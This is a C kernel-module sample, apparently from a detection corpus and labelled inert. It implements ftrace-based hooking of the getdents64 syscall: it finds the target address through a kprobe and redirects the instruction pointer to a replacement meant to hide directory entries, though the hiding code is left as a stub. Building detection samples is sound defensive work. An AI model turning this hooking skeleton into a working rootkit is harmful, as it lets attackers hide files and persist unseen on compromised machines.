/*
 * Backsight corpus sample: kernel/ftrace-hook  (INERT - compiled only, never loaded)
 *
 * Written from the public description of ftrace-based hooking: the target's address is read
 * from a kprobe registered on it (the kprobe as an address oracle), an ftrace_ops is filled in
 * at run time with FTRACE_OPS_FL_SAVE_REGS | RECURSION | IPMODIFY, limited to the target with
 * ftrace_set_filter_ip and registered; the callback rewrites the saved instruction pointer so
 * the call lands in the replacement, which hides directory entries with a prefix.
 */
#include "../../src/kshape.h"

MODINFO(license, "GPL");
MODINFO(name, "ftrace_hook");
MODINFO(vermagic, CORPUS_VERMAGIC);
DEFINE_THIS_MODULE("ftrace_hook");

#if defined(__x86_64__)
#define TARGET "__x64_sys_getdents64"
#else
#define TARGET "__arm64_sys_getdents64"
#endif

static struct ftrace_ops ops;
static ulong target_address;
static long (*real_getdents64)(const struct pt_regs *regs);

static long replacement_getdents64(const struct pt_regs *regs)
{
	long n = real_getdents64(regs);
	/* would drop entries named corpus_hidden* from the user buffer */
	return n;
}

static void callback(ulong ip, ulong parent_ip, struct ftrace_ops *op, struct ftrace_regs *fregs)
{
	struct pt_regs *regs = (struct pt_regs *)fregs;
	(void)ip; (void)op;
	if ((parent_ip >> 40) != ((ulong)&__this_module >> 40))
		REGS_IP(regs) = (ulong)replacement_getdents64;
}

static ulong address_of(const char *name)
{
	struct kprobe kp = { 0 };
	ulong found = 0;
	kp.symbol_name = name;
	if (register_kprobe(&kp) == 0) {
		found = (ulong)kp.addr;
		unregister_kprobe(&kp);
	}
	return found;
}

int init_module(void)
{
	target_address = address_of(TARGET);
	if (!target_address)
		return -2;
	real_getdents64 = (void *)(target_address + 4);
	ops.func = callback;
	ops.flags = FTRACE_OPS_FL_SAVE_REGS | FTRACE_OPS_FL_RECURSION | FTRACE_OPS_FL_IPMODIFY;
	if (ftrace_set_filter_ip(&ops, target_address, 0, 0))
		return -1;
	return register_ftrace_function(&ops);
}

void cleanup_module(void)
{
	unregister_ftrace_function(&ops);
	ftrace_set_filter_ip(&ops, target_address, 1, 0);
}
